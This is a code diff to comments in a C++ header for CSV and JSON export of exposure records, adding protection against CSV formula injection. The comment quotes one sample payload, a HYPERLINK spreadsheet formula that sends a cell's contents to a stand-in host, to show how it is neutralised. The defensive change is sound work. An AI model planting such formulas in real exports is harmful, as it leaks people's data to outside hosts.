@@ -38,7 +38,15 @@
 // CSV (RFC 4180): a header row naming the columns, then one line per row;
 // fields separated by ',', every line ended by LF (not CR LF). A field that
 // holds ',', '"', CR or LF is enclosed in '"' with each '"' doubled
-// (CsvField); any other field is written as it is.
+// (CsvField); any other field is written as it is. Formulas are neutralised
+// (OWASP, "CSV Injection"): a field that begins with '=', '+', '-', '@', tab
+// or CR gets a "'" in front, inside the quotes if it has them, so that a
+// spreadsheet shows it as text instead of running it: an exposure partner
+// recorded as =HYPERLINK("http://x/?"&A3,"x") is written
+// "'=HYPERLINK(""http://x/?""&A3,""x"")". The one exception is an integer
+// ('-' and digits, e.g. a negative overlap_seconds), which a spreadsheet
+// reads as a number: it is written as it is, whatever column holds it.
+// Every CSV writer here goes through CsvField; JSON is not changed.
 //
 // JSON (RFC 8259): an array with one object per row and line, the fields in
 // the CSV column order, an empty value as null and `continuous` a boolean
@@ -263,7 +271,8 @@ std::string WriteRecordJson(const RecordSheet& sheet, absl::TimeZone zone);
 absl::string_view QuarantinePlaceName(v1::QuarantinePlace place);
 
 // One CSV field, quoted as above when it must be: CsvField("a,b") is
-// "\"a,b\"", CsvField("say \"hi\"") is "\"say \"\"hi\"\"\"".
+// "\"a,b\"", CsvField("say \"hi\"") is "\"say \"\"hi\"\"\"". A formula is
+// neutralised as above: CsvField("=1+2") is "'=1+2", CsvField("-7") is "-7".
 std::string CsvField(absl::string_view value);
 
 // The fields quoted by CsvField, separated by ',', ended by LF.
